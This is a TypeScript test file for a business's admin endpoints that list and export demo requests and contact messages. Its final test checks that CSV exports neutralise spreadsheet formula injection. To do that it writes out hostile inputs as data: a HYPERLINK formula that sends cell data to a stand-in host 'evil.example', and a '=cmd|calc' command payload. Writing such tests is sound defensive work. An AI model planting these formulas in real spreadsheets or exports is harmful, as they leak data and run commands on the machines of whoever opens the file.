import { expect, test } from 'vitest'
import { noQuote } from '#domain/leads/quote-fields.ts'
import { openTestApp } from '#server/testing/harness.ts'
import { itIsAnOfficeList } from '#server/testing/office-list.ts'
import { signedInStaff } from '#server/testing/people.ts'

const email = 'dana@sanduskybay.example'

itIsAnOfficeList({
  url: '/api/admin/demo-requests',
  add: async (db, at) => {
    const row = {
      fullName: 'Dana Ortiz',
      email,
      phone: '216 555 0142',
      filterTypes: 'dpf',
      preferredDate: '2026-04-01',
      createdAt: at,
    } as const
    return (
      await db.insertInto('demo_requests').values(row).returning('id').executeTakeFirstOrThrow()
    ).id
  },
  shown: {
    fullName: 'Dana Ortiz',
    companyName: null,
    email,
    phone: '216 555 0142',
    preferredDate: '2026-04-01',
    filterTypes: 'dpf',
    comments: null,
    customerId: null,
    reference: expect.stringMatching(/^R-[0-9A-Z]{4}$/),
    mayBeAutomatic: false,
  },
  audited: { action: 'list_read', kind: 'demo_requests' },
  search: 'ORTIZ',
  file: {
    name: 'demo-requests',
    head: 'Sent on,Name,Company,Email,Phone,Preferred date,Filters,Comments,Reference,May be automatic',
    line: expect.stringMatching(
      /^2026-03-05,Dana Ortiz,,dana@\S+,216 555 0142,2026-04-01,dpf,,R-\w{4},$/,
    ),
  },
})

itIsAnOfficeList({
  url: '/api/admin/contact-messages',
  add: async (db, at) => {
    const row = { name: 'Dana Ortiz', email, message: 'Do you clean DOCs?', createdAt: at }
    return (
      await db.insertInto('contact_messages').values(row).returning('id').executeTakeFirstOrThrow()
    ).id
  },
  shown: {
    name: 'Dana Ortiz',
    email,
    phone: null,
    message: 'Do you clean DOCs?',
    ...noQuote,
    photoIds: [],
    customerId: null,
    reference: expect.stringMatching(/^R-[0-9A-Z]{4}$/),
    mayBeAutomatic: false,
  },
  audited: { action: 'list_read', kind: 'contact_messages' },
  search: 'Clean docs',
  file: {
    name: 'contact-messages',
    head: 'Sent on,Name,Email,Phone,Message,Filter type,Quantity,Part or serial number,ZIP code,Photos,Reference,May be automatic',
    line: expect.stringMatching(
      /^2026-03-05,Dana Ortiz,dana@\S+,,Do you clean DOCs\?,,,,,0,R-\w{4},$/,
    ),
  },
})

test('what a visitor typed runs in no spreadsheet', async () => {
  const testApp = await openTestApp()
  const staff = await signedInStaff(testApp)
  const formula = '=HYPERLINK("http://evil.example/?"&A1;"Click")'
  const sent = await Promise.all([
    testApp.app.inject({
      method: 'POST',
      url: '/api/contact-messages',
      payload: { name: '@SUM(A1:A9)', email, phone: '+1 216 555 0142', message: formula },
    }),
    testApp.app.inject({
      method: 'POST',
      url: '/api/demo-requests',
      payload: {
        fullName: '-2+3',
        companyName: '\uff1dcmd|calc',
        email,
        phone: '+1 216 555 0142',
        comments: `${formula}\nand "more", please`,
      },
    }),
  ])
  expect(sent.map(({ statusCode }) => statusCode)).toEqual([201, 201])
  const quoted = `"'${formula.replaceAll('"', '""')}`
  expect((await staff.call('GET', '/api/admin/contact-messages.csv')).text).toContain(
    `,'@SUM(A1:A9),${email},+1 216 555 0142,${quoted}",,,,,0,R-`,
  )
  expect((await staff.call('GET', '/api/admin/demo-requests.csv')).text).toContain(
    `,'-2+3,'\uff1dcmd|calc,${email},+1 216 555 0142,,,${quoted}\nand ""more"", please",R-`,
  )
})
